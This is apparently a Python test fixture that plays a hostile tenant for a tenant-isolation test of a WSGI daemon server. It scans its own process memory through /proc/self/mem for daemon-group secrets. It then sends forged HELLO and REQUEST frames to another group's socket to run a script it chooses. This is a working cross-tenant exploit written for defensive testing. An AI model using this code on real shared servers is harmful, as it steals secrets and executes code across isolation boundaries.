# Plays a hostile tenant (test_tenant_isolation.py): an application in one daemon group that
# looks through its own process for the secret that opens a daemon group's socket, and uses
# what it finds against a socket of its choosing with a well-formed HELLO + REQUEST asking
# that group to run a script of its choosing.
#   /probe?target=SOCKET&script=PATH&version=V&tries=N  JSON: pid, uid, candidates found, and per
#                                              attempt what the target answered
#   /info                                      JSON: pid, uid, process group
import json
import os
import re
import socket
import struct
import urllib.parse

MAGIC = b"GANTRY" + b"\r\n"
# Where a daemon keeps its own group's secret, and a tenant can find it:
#  - a HELLO frame as it sits in a receive buffer: header (type 1, length 44), magic,
#    version, reserved, then the 32 secret bytes;
#  - the launch message the process was started from (docs/spawner.md), still in the memory
#    it inherited from the spawner: the secret comes right before the length-prefixed path
#    of mod_gantry_python.so, which /proc/self/maps names.
HELLO = re.compile(re.escape(b"\x01\x00\x00\x00\x2c\x00\x00\x00" + MAGIC) + b"..\x00\x00(.{32})", re.S)


def launch_patterns(maps_text):
    paths = {line.split()[-1].encode() for line in maps_text.splitlines()
             if line.endswith("mod_gantry_python.so")}
    return [re.compile(b"(.{32})" + re.escape(struct.pack("<I", len(p)) + p), re.S) for p in paths]


def own_memory_candidates():
    """Every secret-looking 32 bytes this process can find in its own writable memory."""
    maps_text = open("/proc/self/maps").read()
    patterns = [HELLO] + launch_patterns(maps_text)
    found = set()
    with open("/proc/self/mem", "rb", 0) as mem:
        for line in maps_text.splitlines():
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if not fields[1].startswith("rw") or end - start > (1 << 30):
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, ValueError, OverflowError):
                continue
            for pattern in patterns:
                found.update(m.group(1) for m in pattern.finditer(data))
    found.discard(b"\0" * 32)
    return found


def frame(kind, payload):
    return struct.pack("<BBHI", kind, 0, 0, len(payload)) + payload


def request_frame(environ):
    items = b""
    for k, v in environ.items():
        kb, vb = k.encode(), v.encode()
        items += struct.pack("<II", len(kb), len(vb)) + kb + vb
    return frame(2, struct.pack("<B3xI", 0, len(environ)) + items)


def attempt(target, version, secret, env):
    """Connects to `target`, sends HELLO + REQUEST; what came back (until close)."""
    hello = frame(1, MAGIC + struct.pack("<HH", version, 0) + secret)
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(20)
    try:
        s.connect(target)
        s.sendall(hello + request_frame(env) + frame(4, b""))  # + BODY_END
        reply = b""
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            reply += chunk
    except OSError as e:
        return {"error": str(e), "reply": ""}
    finally:
        s.close()
    return {"error": "", "reply": reply.decode("latin-1")}


def application(environ, start_response):
    path = environ.get("PATH_INFO", "")
    q = dict(urllib.parse.parse_qsl(environ.get("QUERY_STRING", "")))
    out = {"pid": os.getpid(), "uid": os.getuid(), "group": environ.get("mod_wsgi.process_group")}
    if path == "/probe":
        candidates = own_memory_candidates()
        # The environ this request came with, re-aimed at the script of the tenant's choosing.
        env = {k: v for k, v in environ.items()
               if isinstance(v, str) and not k.startswith("wsgi.") and k != "mod_wsgi.daemon_start"}
        env.pop("mod_wsgi.handler_script", None)
        env["SCRIPT_FILENAME"] = q["script"]
        env["REQUEST_URI"] = env["PATH_INFO"] = "/stolen"
        out["candidates"] = len(candidates)
        out["attempts"] = [attempt(q["target"], int(q["version"]), secret, env)
                           for secret in sorted(candidates)
                           for _ in range(int(q.get("tries", "1")))]
    body = json.dumps(out).encode()
    start_response("200 OK", [("Content-Type", "application/json")])
    return [body]
